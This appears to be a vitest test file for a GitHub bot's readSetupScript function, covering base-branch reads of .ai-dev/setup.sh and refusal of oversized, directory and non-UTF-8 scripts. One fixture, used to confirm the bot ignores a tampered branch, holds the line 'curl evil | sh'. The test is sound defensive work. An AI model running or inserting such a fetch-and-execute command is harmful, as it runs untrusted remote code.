import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { octokitFactory } from '../../src/github/octokit.js';
import { readSetupScript, SETUP_SCRIPT_PATH } from '../../src/github/repo-setup.js';
import { DEFAULT_FAKE_GITHUB_TOKEN, type FakeGitHub, startFakeGitHub } from '../fakes/github-server.js';
import { captureLogger } from '../helpers/logger.js';
import { repoWithPullRequest } from './pr-fixture.js';

const log = captureLogger();
let fake: FakeGitHub;
let gh: ReturnType<ReturnType<typeof octokitFactory>>;
let counter = 0;

beforeAll(async () => {
  fake = await startFakeGitHub();
  gh = octokitFactory({ baseUrl: fake.apiUrl, logger: log.logger, throttle: false })(DEFAULT_FAKE_GITHUB_TOKEN);
});

afterAll(async () => {
  await fake?.close();
});

async function repoWith(files: Record<string, string | Uint8Array>, defaultBranch = 'main') {
  counter += 1;
  const name = `setup${counter}`;
  await fake.addRepo({ owner: 'acme', name, private: true, files, defaultBranch });
  return { owner: 'acme', name };
}

describe('readSetupScript', () => {
  it('reads .ai-dev/setup.sh of the base branch, with its blob sha', async () => {
    const script = '#!/usr/bin/env bash\nset -euo pipefail\nnpm ci\n# ünïcode is fine\n';
    const repo = await repoWith({ 'README.md': '# x\n', [SETUP_SCRIPT_PATH]: script }, 'trunk');
    const result = await readSetupScript(gh, repo, 'trunk');
    expect(result).toEqual({
      ok: true,
      script: {
        path: SETUP_SCRIPT_PATH,
        ref: 'trunk',
        sha: expect.stringMatching(/^[0-9a-f]{40}$/),
        text: script,
        bytes: Buffer.byteLength(script),
      },
    });
    const request = fake.requests.at(-1);
    expect(request).toMatchObject({
      path: `/repos/acme/${repo.name}/contents/.ai-dev/setup.sh`,
      query: { ref: 'trunk' },
    });
  });

  it('is undefined when the repo declares none, or the branch does not exist', async () => {
    const repo = await repoWith({ 'README.md': '# x\n' });
    expect(await readSetupScript(gh, repo, 'main')).toBeUndefined();
    expect(await readSetupScript(gh, repo, 'no-such-branch')).toBeUndefined();
  });

  it('reads the base branch, never the bot’s branch', async () => {
    const pr = await repoWithPullRequest(fake, gh, {
      name: 'setup-pr',
      base: { [SETUP_SCRIPT_PATH]: 'npm ci\n' },
      files: { [SETUP_SCRIPT_PATH]: 'curl evil | sh\n' },
    });
    const result = await readSetupScript(gh, { owner: pr.owner, name: pr.name }, 'main');
    expect(result?.ok && result.script.text).toBe('npm ci\n');
  });

  it('refuses, with a reason for the thread, what it will not run', async () => {
    const big = await repoWith({ [SETUP_SCRIPT_PATH]: `echo ${'x'.repeat(70 * 1024)}\n` });
    expect(await readSetupScript(gh, big, 'main')).toEqual({
      ok: false,
      path: SETUP_SCRIPT_PATH,
      ref: 'main',
      reason: `${SETUP_SCRIPT_PATH} is ${70 * 1024 + 6} bytes; a set-up script may have at most 64 KB`,
    });
    // Over 1 MB GitHub sends no content at all (encoding "none"): refused by size first.
    const huge = await repoWith({ [SETUP_SCRIPT_PATH]: 'x'.repeat(1024 * 1024 + 1) });
    expect(await readSetupScript(gh, huge, 'main', { maxBytes: 2 * 1024 * 1024 })).toMatchObject({
      ok: false,
      reason: 'GitHub did not send the content of .ai-dev/setup.sh (encoding none)',
    });
    const dir = await repoWith({ [`${SETUP_SCRIPT_PATH}/run`]: 'npm ci\n' });
    expect(await readSetupScript(gh, dir, 'main')).toMatchObject({
      ok: false,
      reason: `${SETUP_SCRIPT_PATH} is a directory, not a script`,
    });
    const binary = await repoWith({ [SETUP_SCRIPT_PATH]: new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0, 1, 0xff]) });
    expect(await readSetupScript(gh, binary, 'main')).toMatchObject({
      ok: false,
      reason: `${SETUP_SCRIPT_PATH} is not a text file (it is not UTF-8)`,
    });
    expect(await readSetupScript(gh, big, 'main', { maxBytes: 100 * 1024 })).toMatchObject({ ok: true });
  });
});
